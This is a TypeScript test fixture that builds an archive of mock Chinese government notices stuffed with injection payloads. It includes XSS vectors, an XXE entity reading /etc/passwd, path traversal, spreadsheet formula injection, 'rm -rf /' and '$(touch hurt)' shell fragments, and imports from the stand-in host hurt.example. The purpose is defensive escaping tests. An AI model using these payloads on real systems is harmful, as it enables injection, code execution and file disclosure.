/**
 * An archive by somebody who means harm: whatever its seeds, their names and the files beside them hold must end up as
 * text. All that would run sets `hurt`, all that would load asks for `hurt.example`.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BuiltArchive } from './build-archive.ts';
import { publishAndBuild } from './command.ts';

/** Where the archive says it is published: feeds, sitemap and canonical links exist only then. */
const SITE = 'https://ip.example.cn/wenhao/';

/** Syntax of everything a seed passes on its way: MDX, HTML, JavaScript, XML, YAML, JSON, paths, addresses, spreadsheets. */
export const HOSTILE_LINES = [
  '{process.exit(1)}',
  '{globalThis.hurt=1}',
  '${globalThis.hurt=1}',
  '<script>globalThis.hurt=1</script>',
  '<img src=x onerror=globalThis.hurt=1>',
  '<svg onload=globalThis.hurt=1>',
  '<iframe srcdoc="<script>top.hurt=1</script>"></iframe>',
  '<base href="http://hurt.example/">',
  '<meta http-equiv="refresh" content="0;url=http://hurt.example/">',
  '<link rel="stylesheet" href="http://hurt.example/a.css">',
  'import fs from "fs"',
  'import "http://hurt.example/a.js";',
  'export const getStaticPaths = 1',
  'export default 1',
  '<Clause id="s9-9">',
  '<NoticeText><Fragment set:html={"<b>"} /></NoticeText>',
  ']]>',
  '<![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '<!--',
  '--!>',
  '-->',
  '</textarea></title></style></script></template><script>globalThis.hurt=1</script>',
  '"><script>globalThis.hurt=1</script>',
  "' onmouseover='globalThis.hurt=1",
  '[链接](javascript:globalThis.hurt=1)',
  '[链接](data:text/html,<script>hurt=1</script>)',
  '![图](http://hurt.example/a.png)',
  '<javascript:globalThis.hurt=1>',
  '<http://hurt.example/auto>',
  'http://hurt.example/bare www.hurt.example hurt@hurt.example',
  '[甲]: javascript:globalThis.hurt=1',
  '[甲] [甲][] [^甲]',
  '[^甲]: 脚注',
  '../../../../etc/passwd',
  String.raw`..\..\..\windows\win.ini`,
  '/etc/passwd C:\\con \\\\hurt.example\\share',
  '%2e%2e%2f%00 ?a=b#c &lt;b&gt; &#60;b&#62; &amp;amp; &nbsp; &copy',
  '__proto__ constructor toString hasOwnProperty',
  '(.*+?^${}()|[\\]\\\\)+$',
  "$& $1 $$ $` $'",
  '=HYPERLINK("http://hurt.example","点我")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '"引,号"\t制表',
  '分隔\u2028符\u2029号',
  '双向\u202E文\u2066字\u2069',
  '零\u200B宽\u200D字\u2060符\uFEFF',
  '表情😀👨‍👩‍👧 𠮷野家 𪚥',
  '控制\u0001\u0007\u001B[31m\u007F\u0085符',
  '\uFFFE\uFFFF\u{10FFFF}',
  '*/ /* // # -- ; rm -rf / `touch hurt` $(touch hurt)',
  'title: 假的',
  '---',
  '```js',
  '~~~',
  '<details open ontoggle=globalThis.hurt=1>',
] as const;

const WICKED = `"'><script>globalThis.hurt=1</script></title></textarea><!--{globalThis.hurt=1}`;

/** Those that may stand in the files beside the seeds: what nobody sees is refused there. */
export const WRITTEN_LINES = HOSTILE_LINES.filter(
  (line) =>
    !/(?!\t)[\p{Cc}\p{Cs}\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF\uFFFE\uFFFF]/u.test(line),
);

/** What somebody would have a reader of the corrected reading see. */
export const HOSTILE_CORRECTION = `${WICKED}$&$1&lt;`;

/** A notice that is hostile in every place it has. */
const everywhere = `---
title: ${WICKED}
---

{process.exit(1)}云州市知识产权局${WICKED}文件

云知〔2024〕16号

云州市知识产权局关于印发《${WICKED}工作要点》]]>--!>\u202E的通知

各{globalThis.hurt=1}单位，<img src=x onerror=globalThis.hurt=1>各部门：

根据《${WICKED}规划》和《[甲](javascript:globalThis.hurt=1)条例》，现印发给你们。

附件：<script>globalThis.hurt=1</script>清单

云州市知识产权局<svg onload=globalThis.hurt=1>

2024年5月20日

${WICKED}工作要点

${HOSTILE_LINES.join('\n\n')}

一、{globalThis.hurt=1}<b>标题</b>

${HOSTILE_LINES.map((line, at) => `${String(at + 1)}.${line}。${line}。`).join('\n\n')}

二、“会逃逸”${WICKED}

（一）《${WICKED}规划》应当落实。

云州市知识产权局办公室${WICKED}        2024年5月21日印发
`;

/** A notice that is understood in every place: what is hostile in it reaches heads, lists, feeds and files of references. */
const dressed = `云州市{globalThis.hurt=1}知识产权局文件

云知〔2024〕17号

云州市知识产权局关于印发《</script><script>globalThis.hurt=1</script>工作要点》的通知

各{globalThis.hurt=1}单位，<img src=x onerror=globalThis.hurt=1>各部门：

现将《</script><script>globalThis.hurt=1</script>工作要点》印发给你们，请贯彻《<b>乙</b>]]>--!>\u202E规划》。

附件：<script>globalThis.hurt=1</script>清单

云州市{globalThis.hurt=1}知识产权局<b>

2024年5月20日

</script><script>globalThis.hurt=1</script>工作要点

一、=1+1<b>标题</b>{globalThis.hurt=1}

（一）@SUM(1)<!--。质押融资，{globalThis.hurt=1}。

（二）+1]]>。<script>globalThis.hurt=1</script>知识产权，质押融资。

云州市{globalThis.hurt=1}知识产权局办公室        2024年5月21日印发
`;

/** Every line by itself, as it comes: nothing around it to hide behind. */
const bare = HOSTILE_LINES.join('\n');

const numbered = (number: string, ...lines: string[]) =>
  `${['云州市知识产权局关于做好工作的通知', number, '各单位：', ...lines].join('\n\n')}\n`;

/** Names a file may have that mean something to somebody else. None of these seeds has a number, so the name becomes the address. */
const NAMES = [
  'con.txt',
  'NUL.txt',
  'aux.md',
  'com1.txt',
  'index.txt',
  '404.txt',
  'constructor.txt',
  '__proto__.txt',
  'hasOwnProperty.txt',
  '[id].txt',
  '[...path].txt',
  '{globalThis.hurt=1}.txt',
  '..%2f..%2f%00.txt',
  '..\\..\\hurt.txt',
  '....txt',
  '-rf.txt',
  'a?b#c&d=e.txt',
  '"><img src=x onerror=globalThis.hurt=1>.txt',
  '$(touch hurt).txt',
  '公文\u202Etxt.exe.txt',
  '公😀文.txt',
  `${'甲'.repeat(80)}.txt`,
  `${'x'.repeat(250)}.txt`,
  'notice.html.txt',
  'line\nbreak.txt',
];

const works = `works:
  - id: valueof
    title: ${JSON.stringify(`${WICKED}规划`)}
    kind: ${JSON.stringify(`规划${WICKED}`)}
    issuer: ${JSON.stringify(WICKED)}
    number: ${JSON.stringify(`云发〔2020〕1号${WICKED}`)}
    effective: ${JSON.stringify(WICKED)}
    status: { text: ${JSON.stringify(WICKED)}, as_of: '2024-01-01' }
    url: "https://hurt.example/'+globalThis.hurt+'?a=1&b=2#{x}"
    text: partly
    targets: [${JSON.stringify(WICKED)}]
    outline: [{ label: 一、, heading: ${JSON.stringify(WICKED)} }]
    summary: ${JSON.stringify(`${WRITTEN_LINES.join('\n')}${WICKED}`)}
    note: ${JSON.stringify(WRITTEN_LINES.join('\n'))}
  - { id: proto-type, title: 云州市商标培育规划（2024年）, kind: 规划, text: none, summary: '{globalThis.hurt=1}' }
media:
  - { name: ${JSON.stringify(WICKED)}, names: [${JSON.stringify(`云州日报${WICKED}`)}] }
`;

const links = `links:
  - notice: yz-2024-16
    clause: s2-1
    work: valueof
    section: 一、
    terms: [${JSON.stringify(WICKED)}, '{globalThis.hurt=1}']
    strength: strong
`;

const sidecar = `errata:
  apply: high
  list:
    - line: 5
      from: ${JSON.stringify('{process.exit(1)}')}
      to: ${JSON.stringify(HOSTILE_CORRECTION)}
      confidence: high
      class: source
      reason: ${JSON.stringify(WRITTEN_LINES.join('\n'))}
      recorded: '2024-06-01'
`;

const WORDS = JSON.stringify(WRITTEN_LINES.join('\n'));
const ONE_LINE = JSON.stringify(WRITTEN_LINES.join(' ').replace(/[\u2028\u2029]/gu, ''));

/** What is said of a notice that says nothing itself. */
const stated = `source: ${WORDS}
licence: ${JSON.stringify(`javascript:globalThis.hurt=1 ${WICKED}`)}
facts:
  issuer: { value: ${JSON.stringify(WICKED)}, by: ${ONE_LINE}, note: ${WORDS} }
  addressees: { value: [ ${ONE_LINE} ], by: ${JSON.stringify(WICKED)} }
  date: { value: 2024-03-05, by: ${JSON.stringify(`=1+1${WICKED}`)} }
topics:
  add:
    - { topic: ${JSON.stringify(WICKED)}, reason: ${WORDS} }
`;

/** Every file of the archive by its name in `seeds/`. */
function hostileFiles(): Map<string, string | Uint8Array> {
  return new Map<string, string | Uint8Array>([
    ['everywhere.txt', everywhere],
    ['everywhere.txt.yaml', sidecar],
    ['dressed.txt', dressed],
    ['bare.txt', bare],
    ['bare.txt.yaml', stated],
    ['bare-wide.txt', Buffer.from(`\uFEFF${HOSTILE_LINES.join('\r\n')}`, 'utf16le')],
    ['zero.md', 'NUL\0字符\n\n一、甲\0乙。\n'],
    [
      'numbers.txt',
      numbered('../〔2024〕../号', '一、甲。', '__proto__、乙。', 'constructor、丙。'),
    ],
    ['code.txt', numbered('constructor〔2024〕1号', '一、甲。')],
    [
      'far.txt',
      numbered('云知〔0000〕00000号', '一、甲。', '99999999999999999999.乙。', '（一）丙。'),
    ],
    ...NAMES.map((name, at) => [name, `云州市第${String(at)}号来文\n\n一、${WICKED}。\n`] as const),
    ['works.yaml', works],
    ['links.yaml', links],
  ]);
}

/** What a build said, and the place it left. */
export interface HostileArchive extends BuiltArchive {
  /** The folder around `root` and `site`, where nothing else may appear. */
  folder: string;
}

/**
 * Publishes and builds the hostile archive in a temporary folder, by the commands a user would type.
 * @throws {Error} with all that was said, when a command fails
 */
export function hostileArchive(): HostileArchive {
  const folder = mkdtempSync(join(tmpdir(), 'wenhao-hostile-'));
  const root = join(folder, 'archive');
  const site = join(folder, 'site');
  mkdirSync(join(root, 'seeds'), { recursive: true });
  for (const [name, content] of hostileFiles()) writeFileSync(join(root, 'seeds', name), content);
  const remove = () => {
    rmSync(folder, { recursive: true, force: true });
  };
  publishAndBuild(root, site, { SITE });
  return { folder, root, site, remove };
}
